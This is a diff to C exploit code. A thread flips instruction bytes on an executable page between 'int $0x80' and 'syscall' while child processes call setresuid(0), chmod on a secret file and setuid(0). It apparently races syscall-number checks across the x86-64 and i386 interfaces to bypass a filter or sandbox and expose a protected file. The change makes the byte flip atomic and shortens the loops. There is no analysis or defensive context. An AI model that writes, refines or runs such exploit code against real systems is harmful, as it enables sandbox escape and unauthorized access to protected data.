@@ -222,12 +222,10 @@ static volatile int running = 1;
 static void *flip(void *unused)
 {
     while (running) {
-        site[1] = 0x80;
-        site[0] = 0xCD;
+        *(volatile unsigned short *)site = 0x80CD; /* int $0x80, in one piece */
         for (volatile int i = 0; i < 50; i++)
             ;
-        site[0] = 0x0F;
-        site[1] = 0x05;
+        *(volatile unsigned short *)site = 0x050F; /* syscall */
         for (volatile int i = 0; i < 50; i++)
             ;
     }
@@ -254,13 +252,13 @@ static void race(const char *secret)
     int found = 0, status, ended = 0;
     memcpy(page, code, sizeof code);
     site = page + 8;
-    for (int round = 0; round < 40; round++) {
+    for (int round = 0; round < 10; round++) {
         pid_t child = fork();
         if (child == 0) {
             long (*call)(long, long, long, long) = (void *)page;
             pthread_create(&flipper, NULL, flip, NULL);
             pthread_create(&scribbler, NULL, scribble, (char *)&call - 4096);
-            for (int i = 0; i < 200; i++) {
+            for (int i = 0; i < 50; i++) {
                 call(SYS_setresuid, 0, 0, 0);
                 call(SYS_chmod, (long)secret, 0644, 0);  /* of i386: mmap */
                 call(SYS_setuid, 0, 0, 0);               /* getitimer; never a number that is i386's fork */
